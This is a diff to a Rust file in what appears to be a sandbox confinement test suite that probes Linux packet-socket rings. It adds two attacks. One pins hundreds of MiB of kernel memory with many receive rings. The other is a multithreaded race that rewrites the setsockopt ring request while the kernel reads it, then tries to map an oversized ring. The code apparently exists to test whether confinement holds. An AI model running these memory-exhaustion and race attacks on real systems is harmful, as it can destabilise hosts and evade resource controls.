@@ -1,5 +1,7 @@
 //! Rings that packets are received in, or sent from.
 
+use std::sync::atomic::{AtomicBool, AtomicPtr, Ordering};
+
 use crate::{
     attacker::{Attacker, SOL_PACKET, contains},
     row::{Outcome, Seen},
@@ -82,4 +84,62 @@ pub(super) fn huge_ring(a: &mut Attacker) -> Outcome {
     let socket = a.capture()?;
     a.set(socket, SOL_PACKET, RX_RING, &ring_of(1 << 20, 96, 2048))?;
     Seen::won("96 MiB of the kernel's memory")
+}
+
+pub(super) fn many_rings(a: &mut Attacker) -> Outcome {
+    for _ in 0..10 {
+        let socket = a.capture()?;
+        a.set(socket, SOL_PACKET, RX_RING, &ring_of(1 << 20, 32, 2048))?;
+    }
+    Seen::won("320 MiB of the kernel's memory")
+}
+
+/// Another thread changes the number of blocks, from one to many. How large a ring has become is what
+/// can be mapped of it.
+pub(super) fn ring_race(a: &mut Attacker) -> Outcome {
+    const BLOCK: u32 = 1 << 20;
+    const FRAMES_OF_BLOCK: u32 = BLOCK / 2048;
+    const MANY: u32 = 96;
+    const ROUNDS: usize = 40;
+    let socket = a.capture()?;
+    let request = a.memory.put(&ring_of(BLOCK, 1, 2048));
+    let none = a.memory.zeros(16);
+    let place = usize::try_from(request).unwrap_or(0);
+    let [blocks, frames] =
+        [4, 12].map(|at| AtomicPtr::new(std::ptr::with_exposed_provenance_mut::<u32>(place + at)));
+    let done = AtomicBool::new(false);
+    let mut made = 0;
+    let mut won = false;
+    std::thread::scope(|scope| {
+        scope.spawn(|| {
+            let [blocks, frames] = [&blocks, &frames].map(|at| at.load(Ordering::Relaxed));
+            while !done.load(Ordering::Relaxed) {
+                for count in [1, MANY] {
+                    // SAFETY: within the request, which only the kernel and the agent read.
+                    unsafe { std::ptr::write_volatile(blocks, count) };
+                    // SAFETY: as above.
+                    unsafe { std::ptr::write_volatile(frames, count * FRAMES_OF_BLOCK) };
+                }
+            }
+        });
+        for _ in 0..ROUNDS {
+            if a.set_at(socket, SOL_PACKET, RX_RING, request, 16).is_err() {
+                continue;
+            }
+            made += 1;
+            let size = u64::from(BLOCK) * u64::from(MANY);
+            if native(libc::SYS_mmap, [0, size, 3, 1, socket, 0]).is_ok() {
+                won = true;
+                break;
+            }
+            let _ = a.set_at(socket, SOL_PACKET, RX_RING, none, 16);
+        }
+        done.store(true, Ordering::Relaxed);
+    });
+    match (won, made) {
+        (true, _) => Seen::won("96 MiB of the kernel's memory"),
+        // A host without so much memory proves nothing.
+        (false, 0) if !a.world.governed => Err(libc::ENOMEM),
+        (false, _) => Seen::nothing("no ring became too large"),
+    }
 }
